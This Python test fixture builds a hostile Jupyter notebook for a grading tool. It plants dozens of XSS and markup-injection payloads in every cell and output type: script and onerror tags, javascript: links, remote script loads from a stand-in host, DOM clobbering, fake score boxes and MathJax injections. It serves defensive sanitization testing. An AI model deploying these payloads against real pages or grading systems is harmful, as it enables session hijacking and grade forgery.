"""What a hostile notebook holds: each vector's markdown, and JavaScript that is true on a page where it got through.

`{js}` marks the page by the vector's name; `{away}` is an address on another machine.
"""

import base64
import json
from dataclasses import dataclass, field

AWAY = "http://away.test/"
RED = "rgb(1, 2, 3)"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>'


PERSON = '"><img src=x onerror="top.pwned=[\'person\']">'


@dataclass(frozen=True)
class Vector:
    """`clicks`: it needs a click. `math`: it needs MathJax. `attachments`: by name and type."""

    name: str
    markdown: str
    fired: str = ""
    clicks: bool = False
    math: bool = False
    attachments: dict = field(default_factory=dict)

    @property
    def source(self) -> str:
        js = f"top.pwned=(top.pwned||[]).concat(&quot;{self.name}&quot;)".replace("&quot;", "'")
        return self.markdown.replace("{js}", js).replace("{away}", AWAY + self.name)

    @property
    def condition(self) -> str:
        """JavaScript over the page, and over `asked`, the addresses that it asked for."""
        marked = f"(top.pwned || []).includes('{self.name}') || asked.some(a => a.startsWith('{AWAY}{self.name}'))"
        return f"({self.fired or 'false'}) || {marked}"


def exists(selector: str) -> str:
    return f"document.querySelector('{selector}') !== null"


def link(scheme: str) -> str:
    return f"[...document.querySelectorAll('a')].some(a => a.protocol === '{scheme}:' && a.href.includes('away.test'))"


VECTORS = [
    Vector("script", "<script>{js}</script>"),
    Vector("script-src", '<script src="{away}"></script>'),
    Vector("script-upper", "text <ScRiPt>{js}</sCrIpT> text"),
    Vector("img-onerror", '<img src="x" onerror="{js}">'),
    Vector("img-src", '<img src="{away}">'),
    Vector("svg-onload", '<svg onload="{js}"></svg>'),
    Vector("svg-script", "<svg><script>{js}</script></svg>"),
    Vector("svg-image", '<svg><image href="{away}"/></svg>'),
    Vector("details", '<details open ontoggle="{js}">x</details>'),
    Vector("autofocus", '<input id="auto" autofocus onfocus="{js}">'),
    Vector("video", '<video><source onerror="{js}"></video>'),
    Vector("iframe-srcdoc", '<iframe srcdoc="<script>{js}</script>"></iframe>'),
    Vector("iframe-src", '<iframe src="{away}"></iframe>'),
    Vector("iframe-js", '<iframe src="javascript:{js}"></iframe>'),
    Vector("style", f"<style>body {{ outline-color: {RED} !important }}</style>", f"getComputedStyle(document.body).outlineColor === '{RED}'"),
    Vector("style-import", "<style>@import '{away}';</style>"),
    Vector("style-attribute", '<p id="styled" style="background: url({away})">x</p>'),
    Vector("link-sheet", '<link rel="stylesheet" href="{away}">'),
    Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url={away}">'),
    Vector("base", '<base href="http://away.test/">', "document.baseURI.startsWith('http://away.test')"),
    Vector("form", '<form id="sent" action="{away}"><button id="pushed">Full credit</button></form>', exists("form#sent")),
    Vector("object", '<object data="{away}"></object>'),
    Vector("embed", '<embed src="{away}">'),
    Vector("custom-element", '<x-y style="animation-name: none" onclick="{js}" id="custom">x</x-y>', exists("x-y#custom")),
    Vector("template", '<template shadowrootmode="open"><script>{js}</script></template>', exists("template")),
    Vector("math-html", '<math><maction actiontype="statusline#{away}" id="acts">x</maction></math>', exists("#acts")),
    Vector("clobber", '<a id="submission_id" name="formgrader">x</a>', exists("a#submission_id")),
    Vector("score-box", '<input id="duality_proof" value="2">', exists("input#duality_proof:not(.score)")),
    Vector("score-box-heading", "# duality_proof", exists("#duality_proof:not(.score)")),
    Vector("comment", '<!--><img src="x" onerror="{js}">-->'),
    Vector("cdata", '<![CDATA[ x ]]><img src="x" onerror="{js}">'),
    Vector("declaration", '<!DOCTYPE x ><img src="x" onerror="{js}">'),
    Vector("instruction", '<?x ?><img src="x" onerror="{js}">'),
    Vector("unclosed", '<div>\n<img src="x" onerror="{js}"\n<p>'),
    Vector("unclosed-tag", '<div id="open-div"><b id="open-b">', exists("#open-div")),
    Vector("closing-tags", '</div></div></div></body><img src="x" onerror="{js}">'),
    Vector("split-lines", '<div\nid="split"><img\nsrc="x"\nonerror="{js}"\n></div>'),
    Vector("no-spaces", '<div><img/src="x"/onerror="{js}"></div>'),
    Vector("in-a-list", '- a\n    - <img src="x" onerror="{js}">'),
    Vector("in-a-table", '| a |\n|---|\n| <img src="x" onerror="{js}"> |'),
    Vector("in-a-quote", '> <img src="x" onerror="{js}">'),
    Vector("fence-closed", '```\ncode\n```\n<img src="x" onerror="{js}">\n```'),
    Vector("span-closed", '`` ` `` <img src="x" onerror="{js}"> `'),
    Vector("fence-mermaid", '```mermaid\n<img src="x" onerror="{js}">\n```'),
    Vector("in-a-formula", '\\$$ <img src="x" onerror="{js}"> $$'),
    Vector("link-js", "[x](javascript:{js})", clicks=True),
    Vector("link-js-entity", "[x](java&#115;cript:{js})", clicks=True),
    Vector("link-js-angle", "[x](<JavaScript:{js}>)", clicks=True),
    Vector("link-reference", "[x][r]\n\n[r]: javascript:{js}", clicks=True),
    Vector("link-reference-below", "> [r]:\n>   javascript:{js}\n\n[r]", clicks=True),
    Vector("link-auto", "<javascript:{js}>", clicks=True),
    Vector("link-data", "[x](data:text/html,away.test)", link("data")),
    Vector("link-vbscript", "[x](vbscript:away.test)", link("vbscript")),
    Vector("link-file", "[x](file:///away.test)", link("file")),
    Vector("link-ours", "[x](/formgrader/away.test)", "[...document.querySelectorAll('a')].some(a => a.pathname === '/formgrader/away.test')"),
    Vector("link-title", '[x](https://example.org "a\\"><img src=x onerror={js}>")<img src=x onerror="{js}">'),
    Vector("picture", "![x]({away})"),
    Vector("picture-reference", "![x][p]\n\n[p]: {away}"),
    Vector("picture-shortcut", "![p]\n\n[p]: <{away}>"),
    Vector("picture-svg", "![x](data:image/svg+xml;base64,PHN2Zy8+)", exists('img[src^="data:image/svg"]')),
    Vector("attached-svg", "![x](attachment:a.png)", exists('img[src^="data:image/svg"]'), attachments={"a.png": {"image/svg+xml": "PHN2Zy8+"}}),
    Vector("attached-html", "![x](attachment:b.png)", exists('img[src^="data:text/html"]'), attachments={"b.png": {"text/html": base64.b64encode(b"<b>").decode()}}),
    Vector("attached-broken", "![x](attachment:c.png)", exists('img[src*="onerror"], img[onerror]'), attachments={"c.png": {"image/png": '" onerror="x'}}),
    Vector("math-href", "$\\href{javascript:{js}}{x}$", exists('.MathJax a[href*="math-href"]'), math=True),
    Vector("math-href-away", "$\\href{{away}}{x}$", exists('.MathJax a[href*="math-href-away"]'), math=True),
    Vector("math-alias", "$\\newcommand{\\go}{\\href{https://away.test/alias}} \\go{x}$", exists('.MathJax a[href*="alias"]'), math=True),
    Vector("math-def", "$\\def\\h#1{\\href{#1}{y}} \\h{https://away.test/def}$", exists('.MathJax a[href*="test/def"]'), math=True),
    Vector("math-class", "$\\class{pwned-class}{x}$", exists(".pwned-class"), math=True),
    Vector("math-id", "$\\cssId{pwned-id}{x}$", exists("#pwned-id"), math=True),
    Vector("math-style", "$\\style{outline-width: 7px}{x}$", "[...document.querySelectorAll('span')].some(s => s.style.outlineWidth === '7px')", math=True),
    Vector("math-token", "$\\mmlToken{mi}[href=\"https://away.test/token\"]{x}$", exists('.MathJax a[href*="token"]'), math=True),
    Vector("math-token-class", "$\\mmlToken{mi}[class=\"pwned-token\"]{x}$", exists(".pwned-token"), math=True),
    Vector("math-bbox", "$\\require{bbox}\\bbox[5px,border:6px solid]{x}$", "[...document.querySelectorAll('span')].some(s => s.style.borderTopWidth === '6px')", math=True),
    Vector("math-entity", "&#36;&#92;class{pwned-entity}{x}&#36;", exists(".pwned-entity"), math=True),
    Vector("math-escaped", "&dollar;\\\\class{pwned-escaped}{x}&dollar;", exists(".pwned-escaped"), math=True),
    Vector("math-environment", "\\begin{equation}\\href{https://away.test/env}{x}\\end{equation}", exists('.MathJax a[href*="test/env"]'), math=True),
    Vector("math-redefined", "$\\def\\zeta{\\text{forged}}$ the course writes $\\zeta$", "document.body.innerText.includes('forged') && !document.body.innerText.includes('def')", math=True),
]  # fmt: skip


def markdown(vector: Vector, name: str) -> dict:
    cell = {"cell_type": "markdown", "id": name, "metadata": {}, "source": vector.source}
    return cell | ({"attachments": vector.attachments} if vector.attachments else {})


def hostile(blank: dict) -> dict:
    """A released notebook with every vector as text, as raw cell, as code and its outputs, and in the proof."""
    notebook = json.loads(json.dumps(blank))
    everything = "\n\n".join(vector.source for vector in VECTORS)
    cells = [markdown(vector, f"text-{n}") for n, vector in enumerate(VECTORS)]
    cells += [{"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": everything}]
    shown = {
        "text/html": everything,
        "image/svg+xml": everything,
        "text/markdown": everything,
        "text/plain": everything,
    }
    outputs = [{"output_type": "display_data", "metadata": {}, "data": shown | {"application/javascript": everything}}]
    outputs += [{"output_type": "stream", "name": "stdout", "text": everything}]
    about = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs}
    cells += [
        about | {"id": "code", "source": f"%%html\n{everything}"},
        about | {"id": "words", "source": f"words = {everything!r}"},
    ]
    at = next(n for n, cell in enumerate(notebook["cells"]) if cell["id"] == "setup")
    notebook["cells"][at + 1 : at + 1] = cells
    for cell in notebook["cells"]:
        if cell["id"] == "duality_proof":
            cell["source"] = f"{everything}\n\nthe mark of the proof"
        elif cell["id"] == "gaussian_kl":
            raised = f"raise ValueError({everything[:3000]!r})"
            cell |= {"outputs": outputs, "source": f"def gaussian_kl(mean_p, cov_p, mean_q, cov_q):\n    {raised}"}
    return notebook
